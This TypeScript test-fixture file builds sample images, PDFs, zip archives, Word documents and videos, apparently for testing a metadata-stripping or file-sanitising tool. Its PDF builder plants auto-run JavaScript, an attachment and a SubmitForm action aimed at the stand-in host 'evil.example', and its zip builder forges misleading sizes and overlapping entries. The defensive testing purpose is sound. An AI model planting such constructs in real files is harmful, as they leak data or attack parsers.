// Files made for tests: whole ones, and ones with a flaw. Nothing of them lies in the repository.
import { randomBytes } from 'node:crypto'
import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
import { type PDFDict, PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib'

const u16 = (value: number): Buffer => Buffer.from([value >>> 8, value & 0xff])
const u32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}
const text = (value: string): Buffer => Buffer.from(value, 'latin1')

/** A PNG block. */
export const pngBlock = (type: string, body: Buffer): Buffer =>
  Buffer.concat([u32(body.length), text(type), body, u32(crc32(Buffer.concat([text(type), body])))])

/** A PNG: waves of `seed`, with blocks put before the end. `claim`: the size its header says. */
export const png = (
  options: { width?: number; height?: number; seed?: number; extra?: Buffer[]; claim?: readonly [number, number] } = {},
): Buffer => {
  const { width = 120, height = 80, seed = 1, extra = [], claim = [width, height] } = options
  const rows = Buffer.alloc(height * (1 + width * 3))
  for (let y = 0; y < height; y++)
    for (let x = 0; x < width; x++) {
      const at = y * (1 + width * 3) + 1 + x * 3
      const wave = Math.sin((x / width) * seed * 5 + Math.cos((y / height) * (seed + 2) * 4) * seed)
      rows[at] = 128 + 120 * wave
      rows[at + 1] = 128 + 100 * Math.sin((y / height) * seed * 7 + wave)
      rows[at + 2] = 255 * (x / width)
    }
  const head = Buffer.concat([u32(claim[0]), u32(claim[1]), Buffer.from([8, 2, 0, 0, 0])])
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    pngBlock('IHDR', head),
    ...extra,
    pngBlock('IDAT', deflateSync(rows)),
    pngBlock('IEND', Buffer.alloc(0)),
  ])
}

/** An EXIF block: artist, resolution, orientation, a place. */
export const exif = (artist: string, dpi = 300, orientation = 1): Buffer => {
  const name = Buffer.from(`${artist}\0`)
  const field = (tag: number, type: number, count: number, value: Buffer): Buffer =>
    Buffer.concat([u16(tag), u16(type), u32(count), Buffer.concat([value, Buffer.alloc(4)]).subarray(0, 4)])
  const after = 8 + 2 + 5 * 12 + 4
  const gps = after + name.length + 8
  const fields = [
    field(0x0112, 3, 1, u16(orientation)),
    field(0x011a, 5, 1, u32(after + name.length)),
    field(0x0128, 3, 1, u16(2)),
    field(0x013b, 2, name.length, u32(after)),
    field(0x8825, 4, 1, u32(gps)),
  ]
  const place = Buffer.concat([u16(1), field(2, 5, 3, u32(gps + 18)), u32(0), ...[30, 1, 15, 1, 0, 1].map(u32)])
  return Buffer.concat([text('MM\0*'), u32(8), u16(5), ...fields, u32(0), name, u32(dpi), u32(1), place])
}

/** Puts a segment right after the start of a JPEG. */
export const withSegment = (jpeg: Buffer, marker: number, body: Buffer): Buffer =>
  Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, marker]), u16(body.length + 2), body, jpeg.subarray(2)])

/** A PDF of some pages with everything a blind copy must lose. */
export const pdf = async (pages = 2, author = '王小明'): Promise<Buffer> => {
  const document = await PDFDocument.create()
  const font = await document.embedFont(StandardFonts.Helvetica)
  for (let at = 0; at < pages; at++)
    document.addPage([300, 200]).drawText(`Page ${at + 1} of the work`, { x: 20, y: 100, size: 24, font })
  document.setAuthor(author)
  document.setTitle('Secret title')
  const { context, catalog } = document
  const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description><dc:creator><rdf:Seq><rdf:li>${author}</rdf:li></rdf:Seq></dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>`
  catalog.set(PDFName.of('Metadata'), context.register(context.stream(Buffer.from(xmp), { Type: 'Metadata', Subtype: 'XML' })))
  catalog.set(PDFName.of('OpenAction'), context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }))
  await document.attach(Buffer.from('the list of names'), 'names.txt', { mimeType: 'text/plain' })
  const submit = context.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [0, 0, 9, 9],
    A: { S: 'SubmitForm', F: PDFString.of('http://evil.example') },
  })
  const note = context.obj({
    Type: 'Annot',
    Subtype: 'Text',
    Rect: [0, 0, 9, 9],
    T: PDFString.of('Reviewer Li'),
    Contents: PDFString.of('nice'),
  })
  document.getPage(0).node.addAnnot(context.register(submit as PDFDict))
  document.getPage(0).node.addAnnot(context.register(note as PDFDict))
  document.addJavaScript('main', 'app.alert(2)')
  return Buffer.from(await document.save({ useObjectStreams: false }))
}

export interface Entry {
  readonly name: string | Buffer
  readonly body?: Buffer | string
  /** What the directory says instead of the truth. */
  readonly claim?: number
  readonly localName?: string
  readonly flags?: number
  readonly mode?: number
  readonly stored?: boolean
  /** Shares the place of the entry with this number. */
  readonly same?: number
  /** Is not written: said to lie here. */
  readonly start?: number
}

/** A zip archive, as honest as its entries. */
export const zip = (entries: readonly Entry[], options: { note?: string; before?: Buffer; after?: Buffer } = {}): Buffer => {
  const little = (value: number, bytes: 2 | 4): Buffer => {
    const out = Buffer.alloc(4)
    out.writeUInt32LE(value >>> 0)
    return out.subarray(0, bytes)
  }
  const parts: Buffer[] = [options.before ?? Buffer.alloc(0)]
  const directory: Buffer[] = []
  const starts: number[] = []
  let at = parts[0]!.length
  for (const entry of entries) {
    const body = Buffer.from(entry.body ?? '')
    const packed = entry.stored ? body : deflateRawSync(body)
    const name = Buffer.isBuffer(entry.name) ? entry.name : Buffer.from(entry.name)
    const common = (ofName: Buffer): Buffer =>
      Buffer.concat([
        little(20, 2),
        little(entry.flags ?? 0x800, 2),
        little(entry.stored ? 0 : 8, 2),
        little(0, 4),
        little(crc32(body), 4),
        little(packed.length, 4),
        little(entry.claim ?? body.length, 4),
        little(ofName.length, 2),
        little(0, 2),
      ])
    const localName = Buffer.from(entry.localName ?? name)
    if (entry.start !== undefined) starts.push(entry.start)
    else if (entry.same === undefined) {
      starts.push(at)
      parts.push(Buffer.from('PK\x03\x04'), common(localName), localName, packed)
      at += 30 + localName.length + packed.length
    } else starts.push(starts[entry.same]!)
    const system = entry.mode === undefined ? 0 : 3
    const rest = Buffer.concat([
      little(0, 2),
      little(0, 2),
      little(0, 2),
      little((entry.mode ?? 0) * 65_536, 4),
      little(starts.at(-1)!, 4),
    ])
    directory.push(Buffer.from('PK\x01\x02'), Buffer.from([20, system]), common(name), rest, name)
  }
  const list = Buffer.concat(directory)
  const note = Buffer.from(options.note ?? '')
  const end = [
    little(0, 2),
    little(0, 2),
    little(entries.length, 2),
    little(entries.length, 2),
    little(list.length, 4),
    little(at, 4),
    little(note.length, 2),
  ]
  return Buffer.concat([...parts, list, Buffer.from('PK\x05\x06'), ...end, note, options.after ?? Buffer.alloc(0)])
}

/** A Word document with properties, a comment and a changed word. */
export const docx = (author = '王小明', more: readonly Entry[] = []): Buffer =>
  zip([
    {
      name: '[Content_Types].xml',
      body: '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    },
    {
      name: 'word/document.xml',
      body: `<w:document xmlns:w="w"><w:body><w:p><w:r><w:t>作品说明 &amp; more</w:t></w:r></w:p><w:p><w:ins w:id="1" w:author="${author}"><w:r><w:t>second</w:t></w:r></w:ins></w:p></w:body></w:document>`,
    },
    {
      name: 'word/comments.xml',
      body: `<w:comments xmlns:w="w"><w:comment w:id="0" w:author="李老师" w:initials="L"><w:p/></w:comment></w:comments>`,
    },
    {
      name: 'docProps/core.xml',
      body: `<?xml version="1.0"?><cp:coreProperties xmlns:cp="cp" xmlns:dc="dc"><dc:creator>${author}</dc:creator><cp:lastModifiedBy>张三</cp:lastModifiedBy></cp:coreProperties>`,
    },
    { name: 'docProps/app.xml', body: '<Properties xmlns="p"><Company>北京某大学</Company></Properties>' },
    ...more,
  ])

const box = (type: string, ...bodies: Buffer[]): Buffer => {
  const body = Buffer.concat(bodies)
  return Buffer.concat([u32(body.length + 8), text(type), body])
}

/** An MP4 of one picture track; samples are noise. */
export const mp4 = (
  options: { codec?: string; seconds?: number; author?: string; width?: number; height?: number; bytes?: number } = {},
): Buffer => {
  const { codec = 'avc1', seconds = 12.5, author = '王小明', width = 1920, height = 1080, bytes = 4000 } = options
  const mvhd = box('mvhd', Buffer.alloc(12), u32(1000), u32(seconds * 1000), Buffer.alloc(80))
  const matrix = [0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000].map(u32)
  const tkhd = box('tkhd', Buffer.alloc(40), ...matrix, u32(width * 65_536), u32(height * 65_536))
  const entry = box(codec, Buffer.alloc(24), u16(width), u16(height), Buffer.alloc(50))
  const stbl = box('stbl', box('stsd', u32(0), u32(1), entry))
  const mdia = box('mdia', box('hdlr', Buffer.alloc(8), text('vide'), Buffer.alloc(13)), box('minf', stbl))
  const named = (type: string, value: string): Buffer => box(type, u16(Buffer.byteLength(value)), u16(0), Buffer.from(value))
  const udta = box('udta', named('\xa9nam', 'Our film'), named('\xa9ART', author), named('\xa9xyz', '+39.9+116.4/'))
  return Buffer.concat([
    box('ftyp', text('isom'), u32(512), text('isomavc1mp41')),
    box('moov', mvhd, box('trak', tkhd, mdia), udta),
    box('uuid', Buffer.alloc(16, 7), Buffer.from(`<x:xmpmeta><dc:creator>${author}</dc:creator></x:xmpmeta>`)),
    box('mdat', randomBytes(bytes)),
  ])
}

/** A GIF of one small frame. */
export const gif = (after = ''): Buffer =>
  Buffer.concat([Buffer.from('47494638396101000100800000ffffff0000002c00000000010001000002024401003b', 'hex'), text(after)])
